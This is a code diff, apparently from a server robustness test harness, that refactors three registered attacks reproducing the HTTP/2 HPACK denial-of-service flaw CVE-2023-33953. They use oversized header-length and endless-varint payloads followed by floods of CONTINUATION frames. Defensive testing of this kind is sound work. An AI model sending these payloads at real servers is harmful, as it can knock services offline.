@@ -407,49 +407,40 @@ def _usual(raw):
     ])
 
 
-@attack("cve_2023_33953_string", issue=15, limit=60)
-def cve_2023_33953_string():
-    """A header string that says it has 2 GB, byte by byte: buffered before its length was looked at (CVE-2023-33953)."""
+# A header's string, with the name before it, that says it has 2 GB: 0x7f, and what 2^31 - 128 is beyond it, seven bits
+# at a time.
+_HUGE_STRING = b"\x00\x05x-big" + b"\x7f" + b"\x80\xff\xff\xff\x07"
+
+
+def _continued(field, data, times):
+    """Sends headers that end with `field`, then that many CONTINUATION frames of `data` at a time."""
 
     def send(raw):
         if not hasattr(raw, "begun"):
             raw.begun = True
-            # 0x7f and what 2^31 - 128 is beyond it, seven bits at a time.
-            length = b"\x7f" + b"\x80\xff\xff\xff\x07"
-            raw.socket.sendall(_raw_frame(HEADERS, 0, 1, _usual(raw) + b"\x00\x05x-big" + length))
-        raw.socket.sendall(_raw_frame(CONTINUATION, 0, 1, b"a" * 16000) * 10)
-        return 10
+            raw.socket.sendall(_raw_frame(HEADERS, 0, 1, _usual(raw) + field))
+        raw.socket.sendall(_raw_frame(CONTINUATION, 0, 1, data) * times)
+        return times
 
-    return _flood(send)
+    return send
+
+
+@attack("cve_2023_33953_string", issue=15, limit=60)
+def cve_2023_33953_string():
+    """A header string that says it has 2 GB, byte by byte: buffered before its length was looked at (CVE-2023-33953)."""
+    return _flood(_continued(_HUGE_STRING, b"a" * 16000, 10))
 
 
 @attack("cve_2023_33953_varint", issue=15, limit=60)
 def cve_2023_33953_varint():
     """A number of HPACK with zeros without end (CVE-2023-33953)."""
-
-    def send(raw):
-        if not hasattr(raw, "begun"):
-            raw.begun = True
-            raw.socket.sendall(_raw_frame(HEADERS, 0, 1, _usual(raw) + b"\x00\x05x-big\x7f"))
-        raw.socket.sendall(_raw_frame(CONTINUATION, 0, 1, b"\x80" * 16000) * 10)
-        return 10
-
-    return _flood(send)
+    return _flood(_continued(b"\x00\x05x-big\x7f", b"\x80" * 16000, 10))
 
 
 @attack("cve_2023_33953_copies", issue=15, limit=60)
 def cve_2023_33953_copies():
     """A header string in CONTINUATION frames of one byte: each was copied with all before it (CVE-2023-33953)."""
-
-    def send(raw):
-        if not hasattr(raw, "begun"):
-            raw.begun = True
-            length = b"\x7f" + b"\x80\xff\xff\xff\x07"
-            raw.socket.sendall(_raw_frame(HEADERS, 0, 1, _usual(raw) + b"\x00\x05x-big" + length))
-        raw.socket.sendall(_raw_frame(CONTINUATION, 0, 1, b"a") * 500)
-        return 500
-
-    return _flood(send)
+    return _flood(_continued(_HUGE_STRING, b"a", 500))
 
 
 @attack("cve_2023_1428", issue=15, limit=60)
